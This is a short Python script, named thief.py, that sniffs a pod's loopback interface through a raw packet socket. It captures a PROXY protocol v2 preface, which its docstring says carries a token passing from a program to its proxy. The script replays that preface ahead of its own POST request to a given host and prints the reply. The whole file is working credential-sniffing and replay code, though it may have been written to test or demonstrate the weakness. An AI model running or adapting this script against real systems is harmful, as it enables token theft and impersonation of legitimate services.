#!/usr/bin/python3
"""Reads a token off the pod's loopback, where it goes from program to proxy, and uses it: says "listening", waits for
a PROXY v2 preface, sends it ahead of a request of its own, and prints the answer. Takes NET_RAW.

usage: thief.py HOST PATH
"""

import socket
import sys

SIGNATURE = b"\r\n\r\n\0\r\nQUIT\n"
EVERYTHING = 0x0003

host, path = sys.argv[1:]
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(EVERYTHING))
wire.bind(("lo", 0))
print("listening", flush=True)
while True:
    packet = wire.recv(65536)
    start = packet.find(SIGNATURE)
    if start >= 0:
        end = start + 16 + int.from_bytes(packet[start + 14 : start + 16], "big")
        break
with socket.create_connection((host, 80), timeout=10) as own:
    own.sendall(packet[start:end] + f"POST {path} HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\n\r\n".encode())
    answer = b"".join(iter(lambda: own.recv(65536), b""))
print(answer.decode(), flush=True)
